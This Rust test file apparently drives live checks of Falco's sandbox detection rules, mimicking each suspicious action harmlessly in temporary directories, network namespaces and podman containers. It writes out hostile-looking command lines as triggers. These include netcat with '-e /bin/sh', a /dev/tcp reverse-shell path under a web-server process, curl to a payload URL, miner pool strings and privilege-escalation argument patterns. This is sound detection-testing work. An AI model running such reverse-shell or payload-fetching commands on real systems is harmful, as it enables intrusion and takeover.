//! Falco's sandbox rules (falco-sandbox_rules.yaml 5.x, loaded after
//! falco_rules.yaml as Falco does) live, with the modern eBPF driver: every
//! rule whose action can be done safely here is exercised for real (on the
//! host in a temporary directory, in a network namespace of its own for the
//! network rules, in a real podman container for the container rules) and
//! must fire with its output fields filled; an ordinary baseline raises
//! nothing; every alert must be one an action allows. Prints the coverage
//! table of the file (docs/rules-coverage.md holds a copy).
//!
//! Two `saker detect`: the file as it is (its 25 enabled rules, with the
//! baseline), then its 12 disabled rules alone, enabled through `-o
//! rules=[{disable: {rule: '*'}}, {enable: {rule: ...}}, ...]` (Falco's
//! `rules:` key), with the miner pool's name resolved by saker from an
//! /etc/hosts of its own. Those rules are disabled for their noise: their
//! alerts about the host's other processes are counted, not failed.

mod live_common;
mod live_detect;
mod live_rules;

use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};

use live_common::*;
use live_rules::*;

const FILE: &str = "falco-sandbox_rules.yaml";

const DISABLED: [&str; 12] = [
    "Unexpected inbound connection source",
    "Read Shell Configuration File",
    "Interpreted procs inbound network activity",
    "Interpreted procs outbound network activity",
    "Unexpected K8s NodePort Connection",
    "Create Hidden Files or Directories",
    "Detect outbound connections to common miner pool ports",
    "Container Drift Detected (chmod)",
    "Container Drift Detected (open+create)",
    "Container Run as Root User",
    "Java Process Class File Download",
    "Modify Container Entrypoint",
];

fn s(p: &Path) -> String {
    p.to_str().unwrap().to_string()
}

fn root(name: &str) -> Vec<(&'static str, Want)> {
    vec![("proc.name", is(name)), ("user.name", is("root")), ("proc.exepath", Want::Filled)]
}

fn with(mut v: Vec<(&'static str, Want)>, more: Vec<(&'static str, Want)>) -> Vec<(&'static str, Want)> {
    v.extend(more);
    v
}

/// The actions of the rules the file enables.
fn enabled_actions(w: &Path, n: &str) -> Vec<Action> {
    // the actions' closures outlive this call: the nonce lives as long as the test
    let n: &'static str = Box::leak(n.to_string().into_boxed_str());
    let wd = w.to_path_buf();
    let none = ["--network", "none"];
    let mut v = Vec::new();

    let mnr = true_as(w, &format!("mnr{n}"));
    v.push(host(
        "Detect crypto miners using the Stratum protocol",
        "a program runs with stratum+tcp:// in its arguments",
        "Critical",
        vec![("proc.name", is(format!("mnr{n}"))), ("proc.cmdline", has("stratum+tcp://pool.example.invalid:3333"))],
        move || run(&mnr, &["-o", "stratum+tcp://pool.example.invalid:3333"]),
    ));
    let sudoedit = true_as(w, "sudoedit");
    v.push(host(
        "Sudo Potential Privilege Escalation",
        "a program named sudoedit runs with -s and an argument ending in a backslash",
        "Critical",
        vec![("proc.name", is("sudoedit")), ("proc.cmdline", is("sudoedit -s x\\")), ("user.loginuid", Want::Filled)],
        move || run(&sudoedit, &["-s", "x\\"]),
    ));
    let uffd = perl_as(w, &format!("uffd{n}"));
    v.push(host(
        "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
        "user daemon calls userfaultfd(UFFD_USER_MODE_ONLY)",
        "Critical",
        vec![("proc.name", is(format!("uffd{n}"))), ("user.name", is("daemon")), ("evt.type", is("userfaultfd"))],
        move || {
            run(
                "setpriv",
                &[
                    "--reuid=daemon",
                    "--regid=daemon",
                    "--clear-groups",
                    &s(&uffd),
                    "-e",
                    r#"syscall(323, 1) >= 0 or die "userfaultfd: $!";"#,
                ],
            )
        },
    ));
    let pkexec = true_as(w, "pkexec");
    v.push(host(
        "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
        "a program named pkexec runs with no argument",
        "Critical",
        vec![("proc.name", is("pkexec")), ("proc.cmdline", is("pkexec"))],
        move || run(&pkexec, &[]),
    ));
    v.push(host(
        "Basic Interactive Reconnaissance",
        "whoami on a terminal (script), as its process group's leader",
        "Notice",
        vec![("proc.name", is("whoami")), ("proc.tty", Want::Filled), ("user.name", is("root"))],
        || run_env("script", &["-qc", "exec /usr/bin/whoami", "/dev/null"], &[("SHELL", "/bin/sh")]),
    ));
    let nc = true_as(w, "nc");
    v.push(host(
        "Netcat/Socat Remote Code Execution on Host",
        "a program named nc runs with -e /bin/sh (it does nothing)",
        "Warning",
        vec![("proc.name", is("nc")), ("proc.cmdline", is("nc -e /bin/sh 127.0.0.1 9"))],
        move || run(&nc, &["-e", "/bin/sh", "127.0.0.1", "9"]),
    ));
    let xmrig = true_as(w, "xmrig");
    v.push(host(
        "Known Cryptominer Process Executed",
        "a program named xmrig runs (it does nothing)",
        "Critical",
        vec![("proc.name", is("xmrig")), ("proc.cmdline", is("xmrig --version"))],
        move || run(&xmrig, &["--version"]),
    ));
    let dir = wd.clone();
    let cmd = format!(": websh{n}");
    v.push(host(
        "Web Server Spawned Shell",
        "a program named gunicorn starts a shell",
        "Critical",
        vec![
            ("proc.name", is("sh")),
            ("proc.pname", is("gunicorn")),
            ("proc.cmdline", is(format!("sh -c : websh{n}"))),
        ],
        move || perl(&dir, "gunicorn", r#"system("/bin/sh", "-c", $ARGV[0]) == 0 or die "$?";"#, &[&cmd]),
    ));
    let (dir, curl) = (wd.clone(), true_as(w, "curl"));
    let url = format!("http://payload-{n}.invalid/x");
    v.push(host(
        "Web Server Spawned Suspicious Child Process",
        "a program named gunicorn runs a program named curl",
        "Warning",
        vec![("proc.name", is("curl")), ("proc.pname", is("gunicorn")), ("proc.cmdline", is(format!("curl {url}")))],
        move || perl(&dir, "gunicorn", r#"system($ARGV[0], $ARGV[1]) == 0 or die "$?";"#, &[&s(&curl), &url]),
    ));
    let (dir, rev) = (wd.clone(), true_as(w, &format!("rev{n}")));
    v.push(host(
        "Reverse Shell from Web Server",
        "a program named gunicorn runs a program with /dev/tcp/ in its arguments",
        "Critical",
        vec![
            ("proc.name", is(format!("rev{n}"))),
            ("proc.pname", is("gunicorn")),
            ("proc.cmdline", has("/dev/tcp/127.0.0.1/9")),
        ],
        move || {
            perl(
                &dir,
                "gunicorn",
                r#"system($ARGV[0], $ARGV[1]) == 0 or die "$?";"#,
                &[&s(&rev), "/dev/tcp/127.0.0.1/9"],
            )
        },
    ));

    let hostfs = w.join("hostfs");
    std::fs::create_dir_all(&hostfs).unwrap();
    std::fs::write(hostfs.join("hostname"), "not the host's\n").unwrap();
    let host_mount = format!("{}:/host:ro", s(&hostfs));
    v.extend([
        container(
            "Update Package Repository",
            "echo > /etc/apt/sources.list.d/saker.list",
            "Notice",
            with(root("sh"), vec![("fd.name", is("/etc/apt/sources.list.d/saker.list"))]),
            &none,
            "/bin/mkdir -p /etc/apt/sources.list.d; echo deb http://x y > /etc/apt/sources.list.d/saker.list; exit 0",
        ),
        container(
            "Write below binary dir",
            "echo > /usr/bin/saker-w",
            "Error",
            with(root("sh"), vec![("fd.name", is("/usr/bin/saker-w"))]),
            &none,
            "echo x > /usr/bin/saker-w; exit 0",
        ),
        container(
            "Write below monitored dir",
            "echo > /usr/local/bin/saker-m",
            "Error",
            with(root("sh"), vec![("fd.name", is("/usr/local/bin/saker-m"))]),
            &none,
            "echo x > /usr/local/bin/saker-m; exit 0",
        ),
        container(
            "Write below etc",
            "echo > /etc/saker.conf",
            "Error",
            with(root("sh"), vec![("fd.name", is("/etc/saker.conf"))]),
            &none,
            "echo x > /etc/saker.conf; exit 0",
        ),
        container(
            "Write below root",
            "echo > /saker-root",
            "Error",
            with(root("sh"), vec![("fd.name", is("/saker-root"))]),
            &none,
            "echo x > /saker-root; exit 0",
        ),
        container(
            "Write below rpm database",
            "echo > /var/lib/rpm/Packages",
            "Error",
            with(root("sh"), vec![("fd.name", is("/var/lib/rpm/Packages"))]),
            &none,
            "/bin/mkdir -p /var/lib/rpm; echo x > /var/lib/rpm/Packages; exit 0",
        ),
        container(
            "Modify binary dirs",
            "mv /tmp/sk /usr/bin/saker-mv",
            "Error",
            with(root("mv"), vec![("evt.args", has("/usr/bin/saker-mv"))]),
            &none,
            "echo x > /tmp/sk; /bin/mv /tmp/sk /usr/bin/saker-mv; exit 0",
        ),
        container(
            "Mkdir binary dirs",
            "mkdir /usr/bin/saker-dir",
            "Error",
            with(root("mkdir"), vec![("evt.arg.path", is("/usr/bin/saker-dir"))]),
            &none,
            "/bin/mkdir /usr/bin/saker-dir; exit 0",
        ),
        container(
            "Launch Sensitive Mount Container",
            "podman run -v /etc:/host-etc:ro, pid 1 execs",
            "Informational",
            with(root("true"), vec![("container.mounts", has("/etc:/host-etc:"))]),
            &["--network", "none", "-v", "/etc:/host-etc:ro"],
            "exec /bin/true",
        ),
        container(
            "Kubernetes Client Tool Launched in Container",
            "kubectl (a name busybox has no applet for: the exec is what the rule sees)",
            "Warning",
            with(root("kubectl"), vec![("proc.cmdline", is("kubectl get pods"))]),
            &none,
            "/bin/kubectl get pods; exit 0",
        ),
        container(
            "Decoding Payload in Container",
            "base64 -d",
            "Informational",
            with(root("base64"), vec![("proc.cmdline", is("base64 -d"))]),
            &none,
            "echo aGkK | /bin/base64 -d; exit 0",
        ),
        container(
            "Network Tool Executed During NPM Package Install",
            "a script named npm runs nmap",
            "Warning",
            with(root("nmap"), vec![("proc.pname", is("npm"))]),
            &none,
            "/bin/npm install left-pad; exit 0",
        ),
        container(
            "Privileged Container Device Access",
            "head /dev/vdz, a regular file the container made under that name (the rule looks at the name; \
             the disk /dev/vda cannot be opened even from a privileged podman container here: EPERM)",
            "Critical",
            with(root("head"), vec![("fd.name", is("/dev/vdz"))]),
            &none,
            "echo x > /dev/vdz; /bin/head -c 512 /dev/vdz > /dev/null; exit 0",
        ),
        container(
            "Container Access to Host Sensitive Paths",
            "cat /host/hostname (a temporary directory mounted at /host)",
            "Warning",
            with(root("cat"), vec![("fd.name", is("/host/hostname"))]),
            &["--network", "none", "-v", &host_mount],
            "/bin/cat /host/hostname > /dev/null; exit 0",
        ),
    ]);
    v
}

/// The actions of the rules the file disables.
fn disabled_actions(w: &Path, n: &str) -> Vec<Action> {
    let n: &'static str = Box::leak(n.to_string().into_boxed_str());
    let wd = w.to_path_buf();
    let mut v = Vec::new();

    let dir = wd.clone();
    v.push(host(
        "Unexpected inbound connection source",
        "listen and accept on 198.51.100.7 (own network namespace)",
        "Notice",
        vec![("proc.name", is(format!("inb{n}"))), ("fd.name", has("198.51.100.7:4242"))],
        move || {
            perl_in_netns(
                &dir,
                &format!("inb{n}"),
                &["198.51.100.7"],
                r#"my $l = IO::Socket::INET->new(LocalAddr => "198.51.100.7", LocalPort => 4242, Listen => 1, ReuseAddr => 1) or die "listen: $!";
                my $c = IO::Socket::INET->new(PeerAddr => "198.51.100.7", PeerPort => 4242) or die "connect: $!"; $l->accept or die "accept: $!";"#,
                &[],
            )
        },
    ));
    let (dir, profile) = (wd.clone(), w.join(".profile"));
    let p2 = s(&profile);
    v.push(
        host(
            "Read Shell Configuration File",
            "perl reads DIR/.profile",
            "Warning",
            vec![("proc.name", is(format!("rdcfg{n}"))), ("fd.name", is(s(&profile)))],
            move || {
                std::fs::write(&p2, "PATH=/bin\n").unwrap();
                perl(&dir, &format!("rdcfg{n}"), r#"open(my $f, "<", $ARGV[0]) or die "$!"; my $l = <$f>;"#, &[&p2]);
            },
        )
        // the test writes the file first: a hidden file created
        .may(&["Create Hidden Files or Directories"]),
    );
    let dir = wd.clone();
    v.push(
        host(
            "Interpreted procs inbound network activity",
            "perl accepts a connection from 10.9.8.7 (own network namespace)",
            "Notice",
            vec![("proc.name", is("perl")), ("fd.name", has("10.9.8.7:4343")), ("evt.type", has("accept"))],
            move || {
                perl_in_netns(
                    &dir,
                    "perl",
                    &["10.9.8.7"],
                    r#"my $l = IO::Socket::INET->new(LocalAddr => "10.9.8.7", LocalPort => 4343, Listen => 1, ReuseAddr => 1) or die "listen: $!";
                    my $c = IO::Socket::INET->new(PeerAddr => "10.9.8.7", PeerPort => 4343) or die "connect: $!"; $l->accept or die "accept: $!";"#,
                    &[],
                )
            },
        )
        // the listening socket has no client address: the rule before fires for listen()
        .may(&["Unexpected inbound connection source"]),
    );
    let dir = wd.clone();
    v.push(host(
        "Interpreted procs outbound network activity",
        "perl connects a UDP socket to 198.51.100.7:5999 (own network namespace)",
        "Notice",
        vec![("proc.name", is("perl")), ("fd.name", has("198.51.100.7:5999")), ("evt.type", is("connect"))],
        move || {
            perl_in_netns(
                &dir,
                "perl",
                &["198.51.100.7"],
                r#"IO::Socket::INET->new(PeerAddr => "198.51.100.7", PeerPort => 5999, Proto => "udp") or die "udp: $!";"#,
                &[],
            )
        },
    ));
    let (dir, hidden) = (wd.clone(), w.join(format!(".hidden{n}")));
    v.push(host(
        "Create Hidden Files or Directories",
        "perl mkdir DIR/.hiddenN",
        "Notice",
        vec![("proc.name", is(format!("hid{n}"))), ("evt.type", is("mkdir"))],
        move || perl(&dir, &format!("hid{n}"), r#"rmdir($ARGV[0]); mkdir($ARGV[0]) or die "$!";"#, &[&s(&hidden)]),
    ));
    let dir = wd.clone();
    v.push(host(
        "Detect outbound connections to common miner pool ports",
        "a UDP socket connected to pool.minexmr.com:3333 (198.51.100.8 in saker's /etc/hosts, on the loopback of \
         an own network namespace)",
        "Critical",
        vec![("proc.name", is(format!("mnp{n}"))), ("fd.name", has("198.51.100.8:3333"))],
        move || {
            perl_in_netns(
                &dir,
                &format!("mnp{n}"),
                &["198.51.100.8"],
                r#"IO::Socket::INET->new(PeerAddr => "198.51.100.8", PeerPort => 3333, Proto => "udp") or die "udp: $!";"#,
                &[],
            )
        },
    ));
    let perl_path = perl_as(w, &format!("jdl{n}"));
    v.push(host(
        "Java Process Class File Download",
        "a program whose argv[0] is java receives CAFEBABE on a TCP socket (recvfrom)",
        "Critical",
        vec![("proc.name", is(format!("jdl{n}"))), ("evt.type", is("recvfrom")), ("fd.name", has("127.0.0.1"))],
        move || {
            let out = Command::new(&perl_path)
                .arg0("java")
                .args([
                    "-MIO::Socket::INET",
                    "-e",
                    r#"my $l = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 0, Listen => 1) or die "listen: $!"; my $c = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $l->sockport) or die "connect: $!"; my $s = $l->accept or die "accept: $!"; print $s "\xca\xfe\xba\xbe\x00\x00\x00\x34"; $s->flush; recv($c, my $buf, 8, 0); die "short" unless length($buf) == 8;"#,
                ])
                .stdin(Stdio::null())
                .output()
                .unwrap();
            assert!(out.status.success(), "java mock: {out:?}");
        },
    ));

    let none = ["--network", "none"];
    v.extend([
        container(
            "Unexpected K8s NodePort Connection",
            "wget http://198.51.100.9:31000/ (busybox httpd on the container's own loopback)",
            "Notice",
            with(root("wget"), vec![("fd.name", has("198.51.100.9:31000")), ("evt.type", is("connect"))]),
            &["--network", "none", "--cap-add", "NET_ADMIN"],
            "/bin/ip addr add 198.51.100.9/32 dev lo && /bin/ip link set lo up && \
             (/bin/httpd -f -p 198.51.100.9:31000 -h /tmp &) && /bin/sleep 0.3 && \
             /bin/wget -q -O /dev/null http://198.51.100.9:31000/; exit 0",
        )
        .may(&["Unexpected inbound connection source"]),
        container(
            "Container Drift Detected (chmod)",
            "chmod +x /tmp/drift",
            "Error",
            with(root("chmod"), vec![("evt.arg.mode", has("S_IXUSR"))]),
            &none,
            "echo x > /tmp/drift; /bin/chmod +x /tmp/drift; exit 0",
        ),
        container(
            "Container Drift Detected (open+create)",
            "cp /bin/busybox /tmp/bb (created executable)",
            "Error",
            with(root("cp"), vec![("evt.arg.name", is("/tmp/bb"))]),
            &none,
            "/bin/cp /bin/busybox /tmp/bb; exit 0",
        ),
        container(
            "Container Run as Root User",
            "a container whose pid 1 (root) execs",
            "Informational",
            with(root("true"), vec![("user.uid", is("0"))]),
            &none,
            "exec /bin/true",
        ),
        container(
            "Modify Container Entrypoint",
            "echo > /proc/self/fd/1",
            "Warning",
            with(root("sh"), vec![("fd.name", is("/proc/self/fd/1"))]),
            &none,
            "exec 1>/tmp/out; echo x > /proc/self/fd/1; exit 0",
        ),
    ]);
    v
}

#[test]
fn falco_sandbox_rules_fire_live() {
    let test = "falco_sandbox_rules_fire_live";
    if !can_run_rules(test) {
        return;
    }
    let t0 = std::time::Instant::now();
    let n = nonce();
    mark_run(&n);
    let w = work_dir("sandbox", &n);
    let _service = podman_service();
    make_image(&w);
    let stable = rules_file("falco_rules.yaml");
    let sandbox = rules_file(FILE);
    let listed: Vec<String> = rules_in(&sandbox).into_iter().filter(|(_, e)| !e).map(|(r, _)| r).collect();
    assert_eq!(listed, DISABLED, "the rules the file disables");

    let main = Group {
        label: "sbx",
        rules: vec![stable.clone(), sandbox.clone()],
        options: vec![],
        baseline: true,
        hosts: vec![],
        // `not container.mount.dest[...] in ("<NA>","N/A")` holds when the
        // container has no such mount (the field has no value, as in
        // libsinsp and Falco's container plugin): every container start
        any_container: vec!["Launch Sensitive Mount Container"],
        runtime_noise: vec!["Write below etc"],
    };
    let r1 = run_group(&main, &w, &n, &enabled_actions(&w, &n));

    let mut enable = String::from("rules=[{disable: {rule: '*'}}");
    for r in DISABLED {
        enable.push_str(&format!(", {{enable: {{rule: '{r}'}}}}"));
    }
    enable.push(']');
    let off = Group {
        label: "sbxoff",
        rules: vec![stable, sandbox],
        options: vec!["-o".into(), enable],
        baseline: false,
        hosts: vec![("pool.minexmr.com", "198.51.100.8")],
        any_container: vec!["Container Run as Root User"],
        // podman's temporary files; runc's init making the mount points
        // (/etc/hosts... created 0755, /dev chmod-ed) and opening its exec
        // fifo as /proc/self/fd/N: the rules' exceptions name docker's
        // paths and runc's older process name, `runc:[1:CHILD] init`
        runtime_noise: vec![
            "Create Hidden Files or Directories",
            "Container Drift Detected (chmod)",
            "Container Drift Detected (open+create)",
            "Modify Container Entrypoint",
        ],
    };
    let r2 = run_group(&off, &w, &n, &disabled_actions(&w, &n));

    let mut fired = r1.fired.clone();
    fired.extend(r2.fired.clone());
    let (table, f, total) = coverage(
        FILE,
        &fired,
        &[(
            "Launch Disallowed Container",
            "cannot fire as the file has it: its exception `allowed_containers` is `container.id exists`, true for \
             every container (the rule is a template: users replace the macro with their allowed images)",
        )],
    );
    eprintln!(
        "\n{}\n{}\n\n{table}\nsandbox: {f} / {total} fired; run time {:.0} s",
        r1.report.join("\n"),
        r2.report.join("\n"),
        t0.elapsed().as_secs_f64()
    );
    let _ = std::fs::remove_dir_all(&w);
    let failures: Vec<String> = r1.failures.into_iter().chain(r2.failures).collect();
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}
